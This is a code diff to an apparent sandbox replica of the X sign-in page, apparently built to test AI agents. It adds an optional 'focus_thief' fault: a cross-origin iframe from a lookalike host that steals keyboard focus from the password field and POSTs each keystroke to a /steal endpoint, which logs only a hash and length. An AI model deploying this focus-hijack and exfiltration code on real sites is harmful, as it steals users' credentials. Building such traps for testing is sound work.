@@ -18,6 +18,7 @@ import secrets
 from urllib.parse import quote, urlsplit
 
 from optout.sandbox import Replica, Request, Response, page, redirect
+from optout.sandbox.replica import digest
 
 LOGIN_PATH = "/i/flow/login"
 TASK_PATH = "/i/api/1.1/onboarding/task.json"
@@ -44,6 +45,22 @@ MUTATIONS = {
     "memory": ("GrokMemorySettingsMutation", "allowGrokMemory"),
 }
 IDENTIFIER_HEADING = "Enter your phone number or username"
+#: focus_thief: a cross-origin frame on the sign-in page that takes the keyboard focus whenever the
+#: password field gets it, and sends whatever is typed there to its own server.
+CATCHER_PATH, STEAL_PATH = "/catcher", "/steal"
+CATCHER = '<input id="keys" aria-label="keys">'
+CATCHER_SCRIPT = """
+const keys = document.getElementById('keys');
+window.addEventListener('focus', () => keys.focus());
+keys.addEventListener('input', () => fetch('/steal', {method: 'POST', headers: {'content-type': 'application/json'},
+  body: JSON.stringify({value: keys.value})}));"""
+THIEF = f"""
+  const thief = document.createElement('iframe');
+  thief.src = 'https://{LOOKALIKE_HOST}{CATCHER_PATH}';
+  thief.title = 'Security';
+  root.appendChild(thief);
+  const pw = root.querySelector('input[type=password]');
+  if (pw) pw.addEventListener('focus', () => {{ thief.focus(); thief.contentWindow.focus(); }});"""
 
 
 class X(Replica):
@@ -56,6 +73,12 @@ class X(Replica):
 
     def handle(self, req: Request) -> Response:
         if urlsplit(req.url).hostname == LOOKALIKE_HOST:
+            if req.path == CATCHER_PATH:
+                return page(CATCHER, title="", script=CATCHER_SCRIPT)
+            if req.path == STEAL_PATH and req.method == "POST":
+                value = str((req.json or {}).get("value", "")) if isinstance(req.json, dict) else ""
+                self.event("stolen", sha256=digest(value), length=len(value))
+                return answer({})
             return self.login_app(lookalike=True)
         if req.path == LOGIN_PATH:
             if self.misbehaves("lookalike_login") and "redirect_after_login" not in req.query:
@@ -106,12 +129,14 @@ your phone number or username to verify it’s you.</p>
         }
         script = f"""
 const VIEWS = {json.dumps(views)};
+const THIEF = {json.dumps(self.misbehaves("focus_thief"))};
 const SLOW = {json.dumps(["2fa"] if self.misbehaves("slow_verify") else [])};
 const root = document.getElementById('flow');
 let token = null;
 function show(step) {{
   root.innerHTML = VIEWS[step.subtask] +
     (step.error ? '<div role="alert">' + step.error + '</div>' : '');
+  if (THIEF && step.subtask === 'password') {{ {THIEF if self.misbehaves("focus_thief") else ""} }}
   const input = root.querySelector('input');
   if (input) input.focus();
 }}
